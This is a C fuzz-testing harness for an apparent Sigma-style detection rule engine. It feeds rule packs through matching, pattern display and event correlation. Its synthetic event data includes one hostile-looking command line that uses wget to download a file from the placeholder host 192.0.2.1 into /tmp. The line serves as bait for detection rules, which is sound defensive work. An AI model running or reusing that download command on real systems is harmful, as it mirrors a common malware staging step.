/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Packs of rules, as the guard reads them: what loads can be read to its end, every rule of it can be asked about an
 * event, and every pattern can be shown.
 */
#include "agent/base/require.h"
#include "agent/sigma/correlate.h"
#include "agent/sigma/probe.h"
#include "agent/sigma/sigma.h"

#include <stdint.h>

static const char *const texts[] = {
	"/usr/bin/wget", "wget -q http://192.0.2.1/x -O /tmp/x", "192.0.2.1", "4711", "2026-01-31T12:34:56Z", "",
	"\xff\xc3\xa9\n"};

#define TEXTS (sizeof(texts) / sizeof(texts[0]))

static bool value(const struct sigma_event *event, uint16_t field, unsigned at, struct sigma_value *out)
{
	(void)event;
	if (at >= (field == PACK_WHOLE ? TEXTS : field % 3))
		return false;
	*out = (struct sigma_value){str_from(texts[(field + at) % TEXTS]), field % 8 == 7};
	return true;
}

static void read_rest(const struct pack *p)
{
	size_t sum = 0;

	for (uint32_t i = 0; i < pack_count(p, PACK_CORRELATIONS); i++) {
		struct pack_correlation c = pack_correlation(p, i);

		sum += c.about.title.len;
		for (uint32_t r = c.ref_first; r < c.ref_first + c.refs; r++)
			for (uint32_t f = 0; f < c.groups + (uint32_t)c.values; f++)
				sum += pack_field(p, pack_ref_field(p, pack_ref(p, r).fields + f)).len;
	}
	for (uint32_t i = 0; i < pack_count(p, PACK_TESTS); i++)
		for (uint32_t v = pack_test(p, i).first; v < pack_test(p, i).first + pack_test(p, i).count; v++)
			sum += pack_test_value(p, v).value.len;
	for (uint32_t i = 0; i < p->needs_count; i++)
		sum += pack_need(p, i).len;
	require(sum < SIZE_MAX);
}

/* Every rule matches, again and again, and now and then an event comes late. */
static void correlate(const struct pack *p, const struct sigma_event *event, struct correlate *c)
{
	for (int64_t i = 0; i < 20; i++) {
		correlate_begin(c, event, (i % 7 == 3 ? 1 : i * i) * 1000000, 1 + (uint32_t)i % 4);
		for (uint32_t r = 0; r < pack_count(p, PACK_RULES); r++)
			correlate_rule(c, r);
		for (uint32_t n = 0; n < pack_count(p, PACK_CORRELATIONS); n++)
			require((correlate_count(c, n) == CORRELATE_MATCHES) == correlate_has(c, PACK_CORRELATION | n));
	}
}

/* With a table for each correlation, and with one for all as on the guard. */
static void correlate_both(const struct pack *p, const struct sigma_event *event)
{
	static const struct hash_key key = {1, 2};
	static uint64_t memory[1 << 17];
	static struct correlate c;
	struct tally tally;

	if (correlate_init(&c, p, &key, &(struct correlate_room){memory, sizeof(memory), 3}) == ERR_OK)
		correlate(p, event, &c);
	require(tally_size(8, 64) <= sizeof(memory));
	tally_init(&tally, memory, 8, 64);
	correlate_over(&c, p, &key, &tally);
	correlate(p, event, &c);
	for (uint32_t i = 0; i < pack_count(p, PACK_TESTS) && i < 4; i++)
		(void)!probe_run(p, i, memory, sizeof(memory));
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	const struct sigma_event event = {value, NULL};
	struct pack p;
	char why[PACK_WHY_MAX], memory[512];
	struct sigma_hits hits;

	if (sigma_load(&p, (struct str){(const char *)data, size}, why) != ERR_OK) {
		require(p.bytes.data == NULL);
		return 0;
	}
	for (uint32_t i = 0; i < pack_count(&p, PACK_RULES); i++) {
		struct pack_rule r = pack_rule(&p, i);
		bool matched = sigma_match(&p, r.node, &event, &hits);

		require(matched == sigma_match(&p, r.node, &event, NULL));
		require(hits.count <= SIGMA_HITS_MAX);
	}
	for (uint32_t i = 0; i < pack_count(&p, PACK_PATTERNS); i++) {
		struct buf b = buf_over(memory, sizeof(memory));

		sigma_show(&b, &p, i);
	}
	read_rest(&p);
	correlate_both(&p, &event);
	return 0;
}
